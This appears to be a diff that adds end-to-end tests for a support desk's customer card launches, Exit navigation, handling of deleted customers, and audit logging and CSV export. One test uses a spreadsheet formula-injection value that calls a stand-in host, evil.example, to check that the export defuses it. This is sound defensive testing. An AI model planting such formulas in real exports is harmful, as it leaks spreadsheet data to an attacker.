@@ -1,0 +1,289 @@
+import { readFileSync } from "node:fs";
+import { portal, websiteLinks } from "./support/addresses";
+import { watchAudit, withoutAudit } from "./support/audit";
+import { addReachable } from "./support/code-steps";
+import { addCustomer, addSession, removeCustomer, sessionCookie } from "./support/database";
+import {
+  cardPath,
+  customerPath,
+  expectUnrecorded,
+  found,
+  handedLink,
+  knownCustomer,
+  openHere,
+  pressCard,
+  reason,
+  searchBox,
+} from "./support/desk-steps";
+import { expect, test } from "./support/fixtures";
+import { mailsTo, resetMailbox } from "./support/mailbox";
+import { deviceIdOf, query } from "./support/records";
+import { card, expectAt, expectBackOn, heading, pressExit, signInAtAmazon } from "./support/steps";
+
+const sam = { who: "Sam Okafor", role: "support" };
+const staffLaunches = () => query<{ id: string; customer_id: string }>("select * from staff_launches");
+
+test("a card is opened here for a reason, and Exit leads back to the customer", async ({
+  page,
+  context,
+  signIn,
+  arrivedLinks,
+}) => {
+  const customer = await knownCustomer("hana", "JP", "en-US");
+  const device = "リビングの空気清浄機";
+  const deviceId = await deviceIdOf("hana", device);
+  const { supplies } = websiteLinks("FE", "HB-BREEZE-3");
+  await signIn(page, "Sam Okafor");
+  const [own] = (await context.cookies(portal())).filter(({ name }) => name === "larder.session");
+  const asSam = () => context.addCookies([sessionCookie(own?.value ?? "")]);
+
+  // The customer was here before, in this very browser, and left a page at Amazon open.
+  const token = await addSession(customer);
+  await context.addCookies([sessionCookie(token)]);
+  await page.goto(handedLink(deviceId, "settings"));
+  await card(page, "settings").click();
+  await signInAtAmazon(page);
+  await asSam();
+  const theirs = async () => [
+    await query("select * from sessions where customer_id = $1", [customer.id]),
+    await query("select * from launches where customer_id = $1", [customer.id]),
+  ];
+  const before = await theirs();
+  expect(before.map(({ length }) => length > 0)).toEqual([true, true]);
+
+  await page.goto(customerPath(customer));
+  await pressCard(page, device, "supplies");
+  await expect(
+    page.getByText(
+      "You will see the Amazon account signed in in this browser, not the customer’s. Never ask for a customer’s Amazon password or code.",
+    ),
+  ).toBeVisible();
+  const recorded = await watchAudit();
+  const [launchesBefore, arrivedBefore] = [await staffLaunches(), await arrivedLinks()];
+  const asked = await openHere(page, " \u3000\t ");
+  await expect(asked.getByRole("main").getByRole("alert")).toHaveText(
+    "Type why you open this page, or a ticket number. Nothing was opened.",
+  );
+  await expect(reason(asked)).toHaveAttribute("aria-invalid", "true");
+  // Showing the page again is all that is recorded.
+  expect((await recorded()).map(({ event }) => event)).toEqual(["card.viewed"]);
+  expect(await staffLaunches()).toEqual(launchesBefore);
+  expect(await arrivedLinks()).toEqual(arrivedBefore);
+  await asked.close();
+
+  const amazon = await openHere(page, "Ticket 4711: orders nothing");
+  await expectAt(amazon, supplies);
+  await expect(heading(amazon)).toHaveText("Supply tracking");
+  await expectAt(page, portal() + cardPath(customer, deviceId));
+  const [launch] = (await staffLaunches()).filter(({ id }) => !launchesBefore.some((each) => each.id === id));
+  const about = { ...sam, about: [customer.id] };
+  const details = { deviceId, card: "supplies", launchId: launch?.id };
+  expect(await recorded()).toMatchObject([
+    { event: "launch.opened", ...about, details, reason: "Ticket 4711: orders nothing" },
+  ]);
+
+  await pressExit(amazon);
+  await expectAt(amazon, `${portal()}${customerPath(customer)}?back=${launch?.id}`);
+  await expect(heading(amazon)).toHaveText("佐藤 花");
+  await expect(amazon.getByRole("status").first()).toHaveText(
+    `Back from Amazon. You opened Supply tracking for 佐藤 花 (hana).Device: ${device}`,
+  );
+  expect(await recorded()).toMatchObject([
+    { event: "launch.returned", ...about, details, reason: null },
+    { event: "customer.viewed", ...about },
+  ]);
+  const timeline = amazon.getByRole("region", { name: "Timeline" }).getByRole("listitem");
+  await expect(timeline.filter({ hasText: "Opened by staff" }).first()).toContainText(
+    "Ticket 4711: orders nothing",
+  );
+
+  expect(await theirs(), "the customer’s sessions and launches").toEqual(before);
+  await context.addCookies([sessionCookie(token)]);
+  await page.goto("/return");
+  await expectBackOn(page, deviceId, device, "settings");
+});
+
+test("after pages of two customers one Exit names both", async ({ page, signIn }) => {
+  const customers = [
+    { ...(await knownCustomer("emily", "US", "en-US")), device: "Kitchen printer", number: "emily" },
+    { ...(await knownCustomer("jonas", "DE", "de")), device: "Drucker im Flur", number: "jonas" },
+  ];
+  await signIn(page, "Sam Okafor");
+  let amazon = page;
+  for (const customer of customers) {
+    await page.goto(cardPath(customer, await deviceIdOf(customer.number, customer.device)));
+    amazon = await openHere(page, "Ticket 12");
+    await signInAtAmazon(amazon);
+    await expect(heading(amazon)).toHaveText("Supply tracking");
+  }
+  const recorded = await watchAudit();
+  await pressExit(amazon);
+  await expect(amazon).toHaveURL(/\/support\?back=[0-9a-f-]{36}$/);
+  const notice = amazon.getByRole("status").filter({ hasText: "Back from Amazon." });
+  await expect(notice).toContainText("Back from Amazon. You opened pages for several customers.");
+  for (const { name, number, device } of customers) {
+    const trip = notice.getByRole("listitem").filter({ hasText: name });
+    await expect(trip.getByRole("link")).toHaveText(`Supply tracking for ${name} (${number})`);
+    await expect(trip).toContainText(`Device: ${device}`);
+  }
+  expect((await recorded()).map(({ event, about }) => [event, ...about])).toEqual([
+    ["launch.returned", customers[1]?.id],
+    ["launch.returned", customers[0]?.id],
+  ]);
+  await notice.getByRole("link", { name: "Emily Carter" }).click();
+  await expect(heading(amazon)).toHaveText("Emily Carter");
+});
+
+test("a customer who was deleted meanwhile is said to be gone, wherever one clicks", async ({
+  page,
+  signIn,
+}) => {
+  await signIn(page, "Sam Okafor");
+  const expectGone = async (on = page) => {
+    await expect(heading(on)).toHaveText("This customer isn’t here any more");
+    await expect(on.getByText("They may have deleted their account since you searched.")).toBeVisible();
+  };
+  const ways: [string, () => Promise<void>][] = [
+    ["a page", () => page.getByRole("link", { name: "Show QR" }).click()],
+    ["a mail", () => page.getByRole("button", { name: "Send by e-mail" }).click()],
+    ["opening", async () => expectGone(await openHere(page, "Ticket 13"))],
+  ];
+  for (const [what, press] of ways) {
+    const customer = await addReachable("Gesine Gone", "DE", ["HB-BREW-2"]);
+    await page.goto(cardPath(customer, customer.devices[0] ?? ""));
+    await removeCustomer(customer);
+    await test.step(what, press);
+    if (what !== "opening") await expectGone();
+  }
+
+  const customer = await addCustomer("Gesine Vanishing", "DE", ["HB-BREW-2"]);
+  await page.goto("/support");
+  await searchBox(page).fill("gesine vanishing");
+  await expect(found(page, customer)).toBeVisible();
+  await removeCustomer(customer);
+  const answer = page.waitForResponse((response) => response.url().endsWith(customerPath(customer)));
+  await found(page, customer).click();
+  expect((await answer).status()).toBe(200);
+  await expectGone();
+  await page.getByRole("link", { name: "Find a customer" }).last().click();
+  await expectAt(page, `${portal()}/support`);
+});
+
+test("what cannot be put on record is not shown, sent or opened", async ({
+  page,
+  signIn,
+  expected,
+  arrivedLinks,
+}) => {
+  // A handler says so with a status of its own; pages keep theirs.
+  expected.faults.push(/status of 503/);
+  await resetMailbox();
+  const customer = await addReachable("Ulla Unrecorded", "DE", ["HB-BREW-2"]);
+  const device = customer.devices[0] as string;
+  await signIn(page, "Sam Okafor");
+  const card = cardPath(customer, device);
+  await page.goto(card);
+  const [before, recorded] = [await staffLaunches(), await watchAudit()];
+  const jobs = () => query("select id from pgboss.job where data->>'customerId' = $1", [customer.id]);
+
+  await withoutAudit(async () => {
+    const popup = await openHere(page, "Ticket 14");
+    await expectUnrecorded(popup);
+    await popup.close();
+    await page.getByRole("button", { name: "Send by e-mail" }).click();
+    await expectUnrecorded(page);
+
+    for (const path of [
+      customerPath(customer),
+      card,
+      `${card}&show=qr`,
+      `${card}&show=link`,
+      "/support?q=ulla+unrecorded",
+    ]) {
+      const answer = await page.goto(path);
+      expect(answer?.status(), path).toBe(200);
+      await expectUnrecorded(page);
+      const html = await page.content();
+      expect(html, path).not.toContain("Ulla Unrecorded");
+      expect(html, path).not.toContain(customer.email);
+      await expect(page.getByRole("img", { name: /^QR code/ }), path).toHaveCount(0);
+    }
+  });
+  expect(await recorded()).toEqual([]);
+  expect(await staffLaunches()).toEqual(before);
+  expect(await arrivedLinks()).toEqual([]);
+  expect(await jobs()).toEqual([]);
+  expect(await mailsTo(customer.email)).toEqual([]);
+
+  await page.goto(card);
+  await expect(page.getByText(customer.email)).toBeVisible();
+});
+
+/** Rows of RFC 4180. */
+function readCsv(text: string): string[][] {
+  const rows: string[][] = [[]];
+  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
+    if (quoted === undefined && plain === "" && end === "") break;
+    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
+    if (end === "\r\n") rows.push([]);
+  }
+  return rows.filter(({ length }) => length > 0);
+}
+
+test("an administrator finds what was opened, and downloads it without its formula", async ({
+  page,
+  signIn,
+  expected,
+  newContext,
+}) => {
+  expected.faults.push(/"12\/2026" does not conform to the required format/);
+  const formula = '=HYPERLINK("https://evil.example?"&A1,"Ticket")';
+  const customer = await addCustomer("Freya Formula", "DE", ["HB-BREW-2"]);
+  const desk = await (await newContext()).newPage();
+  await signIn(desk, "Sam Okafor");
+  await desk.goto(cardPath(customer, customer.devices[0] ?? ""));
+  const amazon = await openHere(desk, formula);
+  await signInAtAmazon(amazon);
+
+  await signIn(page, "Ada Lindqvist");
+  await page.getByRole("link", { name: "Audit", exact: true }).click();
+  await expectAt(page, `${portal()}/admin/audit`);
+  const recorded = await watchAudit();
+  const events = page
+    .getByRole("table")
+    .getByRole("row")
+    .filter({ has: page.getByRole("cell") });
+  await page.getByLabel("Who", { exact: true }).selectOption("Sam Okafor");
+  await page.getByLabel("What", { exact: true }).selectOption("Opened a page at Amazon");
+  await page.getByLabel("About whom").fill(customer.subject);
+  await page.getByRole("button", { name: "Show", exact: true }).click();
+  await expect(events).toHaveCount(1);
+  for (const words of ["Sam Okafor", "Opened a page at Amazon", "Supply tracking", "Freya Formula", formula])
+    await expect(events).toContainText(words);
+  const ada = { who: "Ada Lindqvist", role: "admin" };
+  expect(await recorded()).toMatchObject([{ event: "audit.viewed", ...ada }]);
+
+  const download = page.waitForEvent("download");
+  await page.getByRole("link", { name: "Download as CSV" }).click();
+  const file = await download;
+  expect(file.suggestedFilename()).toMatch(/^audit-\d{4}-\d\d-\d\d\.csv$/);
+  const text = readFileSync(await file.path(), "utf8");
+  expect(text.startsWith("\ufeff")).toBe(true);
+  const [head = [], ...rows] = readCsv(text.slice(1));
+  expect(rows).toHaveLength(1);
+  const row = Object.fromEntries(head.map((name, index) => [name, rows[0]?.[index]]));
+  expect(row).toMatchObject({
+    ...{ event: "launch.opened", staff_name: "Sam Okafor", staff_role: "support" },
+    ...{ customer_ids: customer.id, customer_numbers: customer.subject, customer_names: "Freya Formula" },
+    ...{ card: "supplies", reason: `'${formula}` },
+  });
+  expect(await recorded()).toMatchObject([{ event: "audit.exported", ...ada }]);
+
+  await page.goto("/admin/audit?from=12/2026");
+  await expect(page.getByText("“12/2026” is not a date. Write it like this: 2026-12-31.")).toBeVisible();
+  await withoutAudit(async () => {
+    await page.goto("/admin/audit");
+    await expectUnrecorded(page);
+    await expect(events).toHaveCount(0);
+  });
+});
